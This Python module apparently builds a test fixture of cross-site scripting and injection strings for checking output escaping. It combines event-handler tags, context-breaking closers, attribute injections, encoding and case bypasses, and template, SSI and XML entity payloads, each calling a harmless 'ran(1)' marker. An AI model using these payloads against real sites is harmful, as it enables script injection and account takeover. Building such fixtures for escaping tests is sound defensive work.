"""Texts that would run somewhere if they were not escaped."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_RUN = "ran(1)"
"""What a payload calls; the browser reports it."""

_TAGS = (
    "img src=x onerror={}",
    "svg onload={}",
    "svg/onload={}",
    "body onload={}",
    "iframe onload={}",
    "iframe src=javascript:{}",
    "video src=x onerror={}",
    "video><source onerror={}",
    "audio src=x onerror={}",
    "input autofocus onfocus={}",
    "select autofocus onfocus={}",
    "textarea autofocus onfocus={}",
    "button autofocus onfocus={}",
    "a autofocus tabindex=1 onfocus={}",
    "details open ontoggle={}",
    "object data=javascript:{}",
    "embed src=javascript:{}",
    "form action=javascript:{}><button autofocus onfocus={}",
    "style onload={}",
    "link rel=stylesheet href=data:, onload={}",
    "marquee onstart={}",
    "base href=javascript:{}//",
    "meta http-equiv=refresh content=0;url=javascript:{}",
    "math><mtext><img src=x onerror={}",
    "svg><animate onbegin={} attributeName=x dur=1s",
    "svg><set onbegin={} attributeName=x dur=1s",
    "svg><script>{}</script",
    "svg><foreignObject><iframe srcdoc=&lt;script&gt;{}&lt;/script&gt;",
    "p style=animation-name:x onanimationstart={}",
    "script>{}</script",
    "script src=data:,{}></script",
    "script type=module>{}</script",
    "noscript><p title='</noscript><img src=x onerror={}>'",
    "template><script>{}</script></template",
    "xmp><p title='</xmp><img src=x onerror={}>'",
)
"""Elements that run something."""

_CLOSERS = ("", '">', "'>", "--></title></textarea></pre>", "]]></text></svg>")
"""What ends the context in which a text might stand."""

_ATTRIBUTES = (
    '" onmouseover={} x="',
    "' onmouseover={} x='",
    '" autofocus tabindex=1 onfocus={} "',
    "' autofocus tabindex=1 onfocus={} '",
    "` onload={} `",
    '" style="background:url(javascript:{})',
    '" srcdoc="<script>{}</script>',
    "x onerror={}",
    '"/onload={}/"',
)
"""What adds an attribute."""

_OTHERS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java&#x73;cript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "{{{{ {} }}}}",
    "{{% print {} %}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "<!--#exec cmd='{}'-->",
    "<!--[if IE]><script>{}</script><![endif]-->",
    "<?xml-stylesheet href='javascript:{}'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'javascript:{}'>]>&e;",
    "<![CDATA[<script>{}</script>]]>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "';{}//",
    '";{}//',
    "`;{}//",
    "</title><script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img/src/onerror={}>",
    "<img src=x:x onerror={}//",
    "<<script>{}//<</script>",
    "<a href=javascript:{}>x</a>",
    "<svg><a xlink:href=javascript:{}><text x=9 y=9>x</text></a></svg>",
    "expression({})",
    "@import 'javascript:{}';",
    "}}*{{background:url(javascript:{})}}",
)


def _made() -> tuple[str, ...]:
    texts = [f"{closer}<{tag}>" for tag in _TAGS for closer in _CLOSERS]
    texts += [*_ATTRIBUTES, *_OTHERS]
    return tuple(
        dict.fromkeys(
            text.replace("{}", _RUN).replace("{{", "{").replace("}}", "}")
            for text in texts
        )
    )


PAYLOADS = _made()
"""Each at most 100 bytes of UTF-8, without control characters."""
